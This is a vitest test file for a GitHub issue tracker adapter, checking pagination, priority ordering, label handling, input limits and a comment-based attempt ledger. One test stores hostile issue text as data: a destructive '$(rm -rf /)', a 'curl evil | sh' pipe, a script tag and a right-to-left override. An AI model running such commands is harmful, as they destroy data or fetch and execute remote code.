/**
 * The GitHub tracker beyond the shared contract: what GitHub does differently (pull
 * requests among issues, pagination, label names in URLs, comma-separated label filters,
 * case-insensitive label names) and what the engine reads back (priority order, ledger).
 */
import { afterEach, describe, expect, it } from "vitest";
import { labelColor } from "../../../../src/engine/forge/github/tracker.js";
import { ledgerComment, readLedger } from "../../../../src/engine/loop/ledger.js";
import { selectIssues } from "../../../../src/engine/loop/select.js";
import { UserError } from "../../../../src/shared/errors.js";
import { type GitHubSetup, setUpGitHub } from "../../../support/fake-github/fixture.js";
import { faults } from "../../../support/fake-github/server.js";

let setup: GitHubSetup | undefined;
afterEach(async () => {
  await setup?.cleanup();
  setup = undefined;
});

async function open(maxPerPage = 100) {
  setup = await setUpGitHub({ fake: { maxPerPage } });
  return { fake: setup.fake, tracker: setup.forge.tracker };
}

function addPull(fake: GitHubSetup["fake"], labels: string[]) {
  const number = fake.repo.number();
  const now = fake.repo.now();
  fake.repo.pulls.set(number, {
    number,
    nodeId: `PR_${number}`,
    title: "a pull request",
    body: "",
    head: "feature",
    base: "main",
    draft: false,
    state: "open",
    labels,
    createdAt: now,
    updatedAt: now,
    author: "octocat",
  });
  return number;
}

describe("GitHub tracker", () => {
  it("lists ready issues oldest first, across pages, without pull requests", async () => {
    const { fake, tracker } = await open(2);
    const numbers = [1, 2, 3, 4, 5].map(
      (n) => fake.repo.createIssue({ title: `issue ${n}`, labels: ["loop:ready"] }).number,
    );
    addPull(fake, ["loop:ready"]);
    fake.repo.createIssue({ title: "not ready", labels: ["other"] });
    const listed = await tracker.listOpenWithLabel("loop:ready");
    expect(listed.map((i) => i.number)).toEqual(numbers);
    // Three pages of two for the six labelled items.
    expect(
      fake.requests.filter((r) => r.path.startsWith("/repos/octo/widgets/issues?")),
    ).toHaveLength(3);
  });

  it("feeds the engine's priority-then-age order (p0 first, unlabelled last)", async () => {
    const { fake, tracker } = await open();
    const make = (title: string, labels: string[]) =>
      fake.repo.createIssue({ title, labels: ["loop:ready", ...labels] }).number;
    const p2 = make("p2", ["priority:p2"]);
    const none = make("none", []);
    const p0old = make("p0 old", ["priority:p0"]);
    const p1 = make("p1", ["priority:p1"]);
    const p0new = make("p0 new", ["priority:p0", "risk:low"]);
    const p3 = make("p3", ["priority:P3"]);
    const issues = await tracker.listOpenWithLabel("loop:ready");
    const { selected } = selectIssues({
      issues: issues.map((issue) => ({ issue, fingerprint: "f" })),
      tasks: new Map(),
      inFlight: new Set(),
      retries: new Map(),
      nowMs: Date.now(),
      policy: { riskLabel: "risk:high", priorityPrefix: "priority:", maxAttempts: 3 },
    });
    expect(selected.map((c) => c.issue.number)).toEqual([p0old, p0new, p1, p2, p3, none]);
  });

  it("filters labels GitHub's comma-separated filter cannot express", async () => {
    const { fake, tracker } = await open();
    const label = "area: parser, lexer";
    const wanted = fake.repo.createIssue({ title: "comma", labels: [label] }).number;
    fake.repo.createIssue({ title: "only part", labels: ["area: parser"] });
    expect((await tracker.listOpenWithLabel(label)).map((i) => i.number)).toEqual([wanted]);
  });

  it("reports labels that match the loop's but for case in the loop's spelling", async () => {
    setup = await setUpGitHub({ forge: { labels: ["loop:ready", "risk:high", "priority:p0"] } });
    const { fake, tracker } = { fake: setup.fake, tracker: setup.forge.tracker };
    const { number } = fake.repo.createIssue({
      title: "shouting",
      labels: ["LOOP:READY", "Risk:High", "Priority:P0", "Area:UI"],
    });
    const [listed] = await tracker.listOpenWithLabel("loop:ready");
    expect(listed?.number).toBe(number);
    expect(listed?.labels).toEqual(["Area:UI", "loop:ready", "priority:p0", "risk:high"]);
    expect((await tracker.getIssue(number)).issue.labels).toEqual(listed?.labels);
  });

  it("adds and removes labels whose names need URL encoding", async () => {
    const { fake, tracker } = await open();
    const { number } = fake.repo.createIssue({ title: "labels" });
    const odd = ["needs/triage 🚀", "50%?#&", "ünïcödé"];
    await tracker.addLabels(number, odd);
    for (const label of odd) await tracker.removeLabel(number, label);
    expect(fake.repo.issues.get(number)?.labels).toEqual([]);
  });

  it("refuses an invalid label or an oversized comment before asking GitHub", async () => {
    const { fake, tracker } = await open();
    const { number } = fake.repo.createIssue({ title: "guarded" });
    const before = fake.requests.length;
    await expect(tracker.addLabels(number, ["two\nlines"])).rejects.toThrow(/must be a label name/);
    await expect(tracker.comment(number, "x".repeat(70_000))).rejects.toThrow(
      /70000 characters; the limit is 65536/,
    );
    await expect(tracker.comment(number, "nul \0 inside")).rejects.toThrow(/NUL/);
    await expect(tracker.getIssue(0)).rejects.toThrow(/positive integer/);
    expect(fake.requests.length).toBe(before);
  });

  it("returns hostile issue text exactly as written, and an empty body as empty", async () => {
    const { fake, tracker } = await open();
    const title = "$(rm -rf /) `whoami` \u001b[31mred\u001b[0m <script>alert(1)</script> 🚀";
    const body = "```sh\n; curl evil | sh\n```\n\n<!-- forge-loop:attempt -->\n\u202Eevil";
    const hostile = fake.repo.createIssue({ title, body });
    const empty = fake.repo.createIssue({ title: "no body" });
    expect((await tracker.getIssue(hostile.number)).issue).toMatchObject({ title, body });
    expect((await tracker.getIssue(empty.number)).issue.body).toBe("");
  });

  it("reads all comments back, across pages, with the attempt ledger intact", async () => {
    const { fake, tracker } = await open(2);
    const { number } = fake.repo.createIssue({ title: "ledger", labels: ["loop:ready"] });
    const entries = [
      {
        issue: number,
        attempt: 1,
        status: "failed",
        reason: "critic_blocked",
        pr: 7,
        duration_ms: 1200,
        fingerprint: "abc",
      },
      { issue: number, attempt: 2, status: "merged", pr: 7, duration_ms: 900, fingerprint: "abc" },
    ];
    await tracker.comment(number, "a human comment");
    for (const entry of entries) await tracker.comment(number, ledgerComment(entry));
    await tracker.comment(number, "blocking: wait for the API freeze");
    const { comments } = await tracker.getIssue(number);
    expect(comments).toHaveLength(4);
    expect(readLedger(comments.map((c) => c.body))).toEqual(entries);
    expect(comments[0]).toMatchObject({ author: "forge-bot", body: "a human comment" });
  });

  it("says clearly when an issue is missing or is a pull request", async () => {
    const { fake, tracker } = await open();
    const pr = addPull(fake, []);
    await expect(tracker.getIssue(999)).rejects.toThrow(
      /issue #999 does not exist in octo\/widgets/,
    );
    await expect(tracker.getIssue(pr)).rejects.toThrow(/is a pull request, not an issue/);
    await expect(tracker.removeLabel(999, "loop:ready")).rejects.toBeInstanceOf(UserError);
    await expect(tracker.comment(999, "hello")).rejects.toThrow(/issue #999 does not exist/);
  });

  it("creates the missing labels, knows existing ones case-insensitively, and survives a race", async () => {
    const { fake, tracker } = await open();
    fake.repo.createLabel("LOOP:READY", "00ff00", "");
    fake.inject(
      { method: "POST", path: /\/labels$/ },
      faults.validation("Validation Failed", [
        { resource: "Label", code: "already_exists", field: "name" },
      ]),
    );
    const setupResult = await tracker.ensureLabels([
      "loop:ready",
      "priority:p0",
      "loop:blocked",
      "risk:high",
    ]);
    expect(setupResult).toEqual({
      created: ["loop:blocked", "risk:high"],
      existing: ["loop:ready", "priority:p0"],
    });
    for (const name of ["loop:blocked", "risk:high"]) {
      expect(fake.repo.labelNamed(name)).toMatchObject({
        color: labelColor(name),
        description: "Used by forge-loop",
      });
    }
    expect(await tracker.ensureLabels(["loop:blocked"])).toEqual({
      created: [],
      existing: ["loop:blocked"],
    });
  });
});
